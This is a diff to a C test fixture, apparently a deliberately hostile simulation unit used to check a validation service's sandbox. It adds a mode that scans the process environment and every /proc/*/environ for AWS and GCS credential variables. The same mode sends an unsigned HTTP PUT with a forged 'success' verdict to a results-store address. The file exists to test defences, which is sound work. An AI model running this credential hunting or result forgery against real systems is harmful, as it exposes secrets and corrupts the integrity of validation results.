@@ -5,8 +5,12 @@
  * attacker would guess it. Written for the tests only: nothing here is meant to be run outside the sandbox.
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
+#include <errno.h>
+#include <netinet/in.h>
 #include <signal.h>
+#include <sys/socket.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -31,6 +35,7 @@ enum {
     FILE_SIZE = 9,    /* write one ever-growing file */
     FORGE = 10,       /* leave a forged child.json and a result.npy symlinked to another file, exit 0 */
     HUGE_LOG = 11,    /* 20,000 log lines of 20 KB through the FMI logger */
+    STORE = 12,       /* hunt for store credentials, then PUT a forged verdict to TARGET ("ip:port/path") */
 };
 
 enum { VR_Y };
@@ -72,6 +77,65 @@ static void tamper(const char *dir, int depth) {
     snprintf(path, sizeof path, "%s/pwned-by-hostile-fmu", dir);
     FILE *f = fopen(path, "w");
     if (f) { fputs("pwned", f); fclose(f); }
+}
+
+/* Credentials a worker might hold: in our environment, or in any process environment we can read. */
+static void hunt_credentials(FmuInstance *inst) {
+    const char *names[] = {"AWS_SECRET_ACCESS_KEY=", "AWS_ACCESS_KEY_ID=", "AWS_ENDPOINT_URL=",
+                           "STORAGE_EMULATOR_HOST=", "GOOGLE_APPLICATION_CREDENTIALS=",
+                           "VALIDIBOT_GCS_SIGNING_KEY_FILE="};
+    size_t n = sizeof names / sizeof names[0];
+    extern char **environ;
+    for (char **e = environ; *e; e++)
+        for (size_t i = 0; i < n; i++)
+            if (strncmp(*e, names[i], strlen(names[i])) == 0)
+                fmu_log(inst, fmi2Warning, "logStatusWarning", "found %s in own environment", names[i]);
+    DIR *proc = opendir("/proc");
+    struct dirent *d;
+    while (proc && (d = readdir(proc)) != NULL) {
+        if (d->d_name[0] < '0' || d->d_name[0] > '9') continue;
+        char path[300], buf[65536];
+        snprintf(path, sizeof path, "/proc/%s/environ", d->d_name);
+        FILE *f = fopen(path, "rb");
+        if (!f) continue;
+        size_t len = fread(buf, 1, sizeof buf - 1, f);
+        fclose(f);
+        for (size_t at = 0; at < len; at += strlen(buf + at) + 1) {
+            buf[len] = '\0';
+            for (size_t i = 0; i < n; i++)
+                if (strncmp(buf + at, names[i], strlen(names[i])) == 0)
+                    fmu_log(inst, fmi2Warning, "logStatusWarning", "found %s in %s", names[i], path);
+        }
+    }
+    if (proc) closedir(proc);
+}
+
+/* PUT a forged verdict to TARGET = "a.b.c.d:port/path", unsigned: what a model without credentials can try. */
+static void forge_remote(FmuInstance *inst) {
+    char host[64] = {0}, path[1024] = {0};
+    int port = 0;
+    if (sscanf(TARGET, "%63[^:]:%d%1023s", host, &port, path) != 3) {
+        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: bad TARGET %s", TARGET);
+        return;
+    }
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
+    inet_pton(AF_INET, host, &addr.sin_addr);
+    if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
+        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: cannot connect (%s)", strerror(errno));
+        if (s >= 0) close(s);
+        return;
+    }
+    const char *body = "{\"status\": \"success\", \"forged\": true}";
+    char request[2048], reply[256] = {0};
+    int len = snprintf(request, sizeof request, "PUT %s HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %zu\r\n"
+                       "Connection: close\r\n\r\n%s", path, host, port, strlen(body), body);
+    if (write(s, request, (size_t)len) == len && read(s, reply, sizeof reply - 1) > 0) {
+        char *eol = strstr(reply, "\r\n");
+        if (eol) *eol = '\0';
+        fmu_log(inst, fmi2Warning, "logStatusWarning", "store attack: the store answered %s", reply);
+    }
+    close(s);
 }
 
 static fmi2Status attack(FmuInstance *inst) {
@@ -147,6 +211,10 @@ static fmi2Status attack(FmuInstance *inst) {
         if (symlink(TARGET, "result.npy") != 0) perror("symlink");
         _exit(0);
     }
+    case STORE:
+        hunt_credentials(inst);
+        forge_remote(inst);
+        return fmi2OK;
     case HUGE_LOG: {
         static char big[20000];
         memset(big, 'L', sizeof big - 1);
